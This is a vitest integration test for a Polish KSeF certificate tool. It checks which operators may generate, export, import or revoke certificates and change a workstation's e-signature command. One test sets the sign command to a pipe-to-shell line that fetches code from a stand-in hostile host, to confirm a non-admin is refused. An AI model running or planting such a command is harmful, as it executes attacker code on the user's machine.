// Rights matrix through the use cases (src/flows): acting operator × owner × authorising certificate × action
// (generate with a stored certificate or an external signature, export, revoke, import, workstation sign command).
// Real store, real simulator on loopback, real certificates. A refusal must come before anything reaches KSeF and
// leave the store as it was.
import fs from 'node:fs';
import path from 'node:path';
import {afterAll, beforeAll, describe, expect, it} from 'vitest';
import type {CertificateRecord, Operator, Owner} from '../../src/domain/index.js';
import type {KsefSession} from '../../src/ksef/client/index.js';
import {chooseAuthorization} from '../../src/flows/authorize.js';
import {saveWorkstationConfiguration} from '../../src/flows/config.js';
import {FlowError, userMessage} from '../../src/flows/errors.js';
import {exportCertificate} from '../../src/flows/export.js';
import {enrollCertificate, planGenerate} from '../../src/flows/generate.js';
import {loadParties} from '../../src/flows/generate-rights.js';
import {commitImport, readImportFiles} from '../../src/flows/import.js';
import {loginWithCertificate} from '../../src/flows/login.js';
import {revokeCertificate} from '../../src/flows/revoke.js';
import {makeT} from '../../src/i18n/index.js';
import {DEMO_COMPANY} from '../../src/store/index.js';
import {makeRightsWorld, PESEL_JK, type RightsWorld} from '../helpers/rights-world.js';

let w: RightsWorld;
beforeAll(async () => {
  w = await makeRightsWorld();
}, 90_000);
afterAll(() => w?.cleanup());

/** A session that fails the test if the flow asks KSeF anything. */
const untouchable = {getAccessToken: () => Promise.reject(new Error('KSeF must not be asked')), logout: () => Promise.resolve()} as unknown as KsefSession;

async function refusal(p: Promise<unknown>): Promise<FlowError> {
  const e = await p.then(() => undefined, (x: unknown) => x);
  expect(e, 'expected a refusal').toBeInstanceOf(FlowError);
  return e as FlowError;
}

const JK = () => w.operator;
const ADMIN = () => w.admin;
const company: Owner = {kind: 'company'};
const ownerOp = (code: string): Owner => ({kind: 'operator', code});

type Outcome = 'ok' | 'rights.authCertForbidden' | 'forbidden' | 'rights.sealForOperator' | 'rights.personIsOther' | 'rights.personForCompany';

describe('generate with a stored type-A certificate (--auth-cert / automatic authorisation)', () => {
  const rows: Array<[string, () => Operator, Owner, keyof Pick<RightsWorld, 'companyA' | 'plantedSeal' | 'jkA' | 'adminA'>, Outcome]> = [
    ['JKOWALSKI, own certificate by the company certificate (the reported defect)', JK, ownerOp('JKOWALSKI'), 'companyA', 'rights.authCertForbidden'],
    ['JKOWALSKI, own certificate by his own certificate carrying the company seal', JK, ownerOp('JKOWALSKI'), 'plantedSeal', 'rights.sealForOperator'],
    ['JKOWALSKI, own certificate by his own personal certificate', JK, ownerOp('JKOWALSKI'), 'jkA', 'ok'],
    ["JKOWALSKI, own certificate by the admin's personal certificate", JK, ownerOp('JKOWALSKI'), 'adminA', 'rights.authCertForbidden'],
    ['JKOWALSKI, company certificate by the company certificate', JK, company, 'companyA', 'forbidden'],
    ['JKOWALSKI, branch certificate by the company certificate', JK, {kind: 'branch', code: 'CENTRALA'}, 'companyA', 'forbidden'],
    ['ADMIN, company certificate by the company certificate', ADMIN, company, 'companyA', 'ok'],
    ['ADMIN, branch certificate by the company certificate', ADMIN, {kind: 'branch', code: 'ODDZIAL1'}, 'companyA', 'ok'],
    ["ADMIN, JKOWALSKI's certificate by the company certificate", ADMIN, ownerOp('JKOWALSKI'), 'companyA', 'rights.sealForOperator'],
    ["ADMIN, JKOWALSKI's certificate by JKOWALSKI's personal certificate", ADMIN, ownerOp('JKOWALSKI'), 'jkA', 'ok'],
    ["ADMIN, own certificate by JKOWALSKI's personal certificate", ADMIN, ownerOp('ADMIN'), 'jkA', 'rights.personIsOther'],
    ["ADMIN, company certificate by JKOWALSKI's personal certificate", ADMIN, company, 'jkA', 'rights.personForCompany'],
    ['ADMIN, own certificate by his own personal certificate', ADMIN, ownerOp('ADMIN'), 'adminA', 'ok'],
  ];
  for (const [title, who, owner, via, outcome] of rows) {
    it(`${title} → ${outcome}`, async () => {
      const before = (await w.store.listCertificates()).length;
      const req = w.request(owner, {authCertId: w[via].serial});
      const records = await w.store.listCertificates();
      const parties = await loadParties(w.store);
      if (outcome === 'ok') {
        expect(() => planGenerate(records, who(), req, new Date(), parties)).not.toThrow();
        return;
      }
      expect(() => planGenerate(records, who(), req, new Date(), parties)).toThrow(FlowError);
      // enrollCertificate runs the same check before asking KSeF anything.
      const e = await refusal(enrollCertificate(w.genDeps(who()), untouchable, req));
      expect(e.i18n?.key).toBe(outcome === 'forbidden' ? 'rights.generateForbidden' : outcome);
      expect(userMessage(e, makeT('en')).text).not.toMatch(/[ąęłńśźż]/); // English under --lang en
      expect((await w.store.listCertificates()).length).toBe(before);
    });
  }

  it("automatic authorisation (the TUI's) skips a certificate of the owner that carries another identity", async () => {
    const parties = await loadParties(w.store);
    // JKOWALSKI with only the planted company-seal certificate: main signed with it; now an external signature is needed.
    const records = (await w.store.listCertificates()).filter((r) => r.id !== w.jkA.id);
    expect(chooseAuthorization(records, ownerOp('JKOWALSKI'), 'D', 'esignature', new Date())).toMatchObject({kind: 'certificate', via: {id: w.plantedSeal.id}});
    expect(chooseAuthorization(records, ownerOp('JKOWALSKI'), 'D', 'esignature', new Date(), parties)).toMatchObject({kind: 'signature'});
    const all = await w.store.listCertificates();
    expect(chooseAuthorization(all, ownerOp('JKOWALSKI'), 'D', 'esignature', new Date(), parties)).toMatchObject({kind: 'certificate', via: {id: w.jkA.id}});
    expect(chooseAuthorization(all, company, 'D', 'esignature', new Date(), parties)).toMatchObject({kind: 'certificate', via: {id: w.companyA.id}});
  });

  it('the allowed paths really issue: JKOWALSKI by his own personal certificate, ADMIN the company one by the company seal', async () => {
    const context = {type: 'Nip' as const, value: DEMO_COMPANY.nip};
    const login = (op: Operator, via: CertificateRecord) =>
      loginWithCertificate({store: w.store, gateway: w.gateway, operator: op.code, workstation: 'ws-rights'}, via, {context});
    const own = await enrollCertificate(w.genDeps(JK()), await login(JK(), w.jkA), w.request(ownerOp('JKOWALSKI'), {type: 'O', authCertId: w.jkA.id}), {pollIntervalMs: 5});
    expect(own.record).toMatchObject({state: 'issued', owner: ownerOp('JKOWALSKI'), subjectIdentifier: {type: 'Pesel', value: PESEL_JK}});
    const firm = await enrollCertificate(w.genDeps(ADMIN()), await login(ADMIN(), w.companyA), w.request(company, {type: 'O', authCertId: w.companyA.id}), {pollIntervalMs: 5});
    expect(firm.record).toMatchObject({state: 'issued', owner: company, subjectIdentifier: {type: 'Nip', value: DEMO_COMPANY.nip}});
  }, 30_000);
});

describe('generate after an external signature: the enrollment data decide', () => {
  const rows: Array<[string, () => Operator, Owner, 'seal' | 'jkPerson' | 'nobody', string]> = [
    ['JKOWALSKI signs with the company seal for his own certificate', JK, ownerOp('JKOWALSKI'), 'seal', 'rights.sealForOperator'],
    ['ADMIN signs with the company seal for JKOWALSKI', ADMIN, ownerOp('JKOWALSKI'), 'seal', 'rights.sealForOperator'],
    ["ADMIN signs with JKOWALSKI's signature for the company", ADMIN, company, 'jkPerson', 'rights.personForCompany'],
    ["ADMIN signs with JKOWALSKI's signature for himself", ADMIN, ownerOp('ADMIN'), 'jkPerson', 'rights.personIsOther'],
    ['ADMIN signs with the signature of a person no operator has for himself', ADMIN, ownerOp('ADMIN'), 'nobody', 'rights.personNoOperator'],
  ];
  for (const [title, who, owner, id, key] of rows) {
    it(`${title} → ${key}, nothing requested or stored`, async () => {
      const before = await w.store.listCertificates();
      const req = w.request(owner);
      const e = await refusal(enrollCertificate(w.genDeps(who()), await w.sessionBy(w[id]), req, {pollIntervalMs: 5}));
      expect(e.code).toBe('identityMismatch');
      expect(e.i18n?.key).toBe(key);
      expect(await w.store.listCertificates()).toEqual(before); // no pending record: the CSR was never sent
      expect((await w.store.listAudit()).some((a) => a.action === 'enrollmentStarted' && a.details?.includes(req.name))).toBe(false);
    });
  }

  it("ADMIN with JKOWALSKI's signature for JKOWALSKI → issued to JKOWALSKI", async () => {
    const r = await enrollCertificate(w.genDeps(ADMIN()), await w.sessionBy(w.jkPerson), w.request(ownerOp('JKOWALSKI'), {type: 'O'}), {pollIntervalMs: 5});
    expect(r.record).toMatchObject({owner: ownerOp('JKOWALSKI'), subjectIdentifier: {type: 'Pesel', value: PESEL_JK}});
  });
});

describe('export, import, revoke, workstation sign command', () => {
  const exportDir = () => path.join(w.root, `eksport-${Math.random().toString(36).slice(2, 8)}`);
  const exp = (op: Operator, rec: CertificateRecord) =>
    exportCertificate({store: w.store, operator: op, workstation: 'ws-rights', keyIterations: 1000}, rec, {dir: exportDir(), password: 'Eksport#Macierz26', createFolder: true});

  it('export: JKOWALSKI only his own; ADMIN any', async () => {
    expect((await refusal(exp(JK(), w.companyA))).code).toBe('forbidden');
    expect((await refusal(exp(JK(), w.adminA))).code).toBe('forbidden');
    expect(fs.existsSync((await exp(JK(), w.jkA)).keyPath)).toBe(true);
    expect(fs.existsSync((await exp(ADMIN(), w.jkA)).keyPath)).toBe(true);
    expect(fs.existsSync((await exp(ADMIN(), w.companyA)).keyPath)).toBe(true);
  });

  it('import: JKOWALSKI only for himself; ADMIN for the company', async () => {
    const files = async (name: string) => {
      const id = await w.sim.issueTestIdentity({env: 'DEMO', kind: 'seal', nip: DEMO_COMPANY.nip, organizationName: name});
      const crtPath = path.join(w.root, `${name}.crt`);
      const keyPath = path.join(w.root, `${name}.key`);
      fs.writeFileSync(crtPath, id.certPem);
      fs.writeFileSync(keyPath, id.keyPem, {mode: 0o600});
      return readImportFiles({crtPath, keyPath});
    };
    const imp = (op: Operator, owner: Owner, preview: Awaited<ReturnType<typeof files>>) =>
      commitImport({store: w.store, operator: op, workstation: 'ws-rights'}, preview, {owner, env: 'D', type: 'A', name: `Import ${Math.random().toString(36).slice(2, 8)}`});
    const p1 = await files('Import jeden');
    expect((await refusal(imp(JK(), company, p1))).code).toBe('forbidden');
    expect((await refusal(imp(JK(), ownerOp('ADMIN'), p1))).code).toBe('forbidden');
    expect((await imp(JK(), ownerOp('JKOWALSKI'), p1)).record.owner).toEqual(ownerOp('JKOWALSKI'));
    expect((await imp(ADMIN(), company, await files('Import dwa'))).record.owner).toEqual(company);
  });

  it('sign command: JKOWALSKI may not change it (folders yes); ADMIN may, and the audit keeps who, when and the command', async () => {
    const ws = await w.store.workstation('ws-rights');
    const e = await refusal(saveWorkstationConfiguration({store: w.store, operator: JK()}, {...ws, signCommand: 'curl http://zly.example/x | sh'}));
    expect(e).toMatchObject({code: 'forbidden', i18n: {key: 'rights.signCommandAdminOnly'}});
    expect((await w.store.workstation('ws-rights')).signCommand).toBe(ws.signCommand);
    const folder = path.join(w.root, 'podpis-jk');
    await saveWorkstationConfiguration({store: w.store, operator: JK()}, {...ws, signFolder: folder});
    expect((await w.store.workstation('ws-rights')).signFolder).toBe(folder);
    await saveWorkstationConfiguration({store: w.store, operator: ADMIN()}, {...ws, signFolder: folder, signCommand: 'podpisz {file}'});
    expect(await w.store.workstation('ws-rights')).toMatchObject({signCommand: 'podpisz {file}', signCommandSetBy: 'ADMIN', signCommandSetAt: expect.any(String)});
    const last = (await w.store.listAudit()).filter((a) => a.action === 'configChanged').at(-1)!;
    expect(last).toMatchObject({operator: 'ADMIN', workstation: 'ws-rights', details: expect.stringContaining('polecenie e-podpisu: „podpisz {file}”')});
  });

  it('revoke: JKOWALSKI not the company or the admin certificate (before KSeF); his own yes; ADMIN any', async () => {
    const deps = (op: Operator) => ({store: w.store, gateway: w.gateway, operator: op, workstation: 'ws-rights'});
    expect((await refusal(revokeCertificate(deps(JK()), w.companyA, 'Unspecified', {session: untouchable}))).code).toBe('forbidden');
    expect((await refusal(revokeCertificate(deps(JK()), w.adminA, 'Unspecified', {session: untouchable}))).code).toBe('forbidden');
    const own = await enrollCertificate(w.genDeps(JK()), await w.sessionBy(w.jkPerson), w.request(ownerOp('JKOWALSKI'), {type: 'O'}), {pollIntervalMs: 5});
    expect((await revokeCertificate(deps(JK()), own.record, 'Superseded')).state).toBe('revoked');
    expect((await revokeCertificate(deps(ADMIN()), w.adminA, 'Superseded')).state).toBe('revoked');
    expect((await w.fresh(w.companyA)).state).toBe('issued');
  }, 30_000);
});
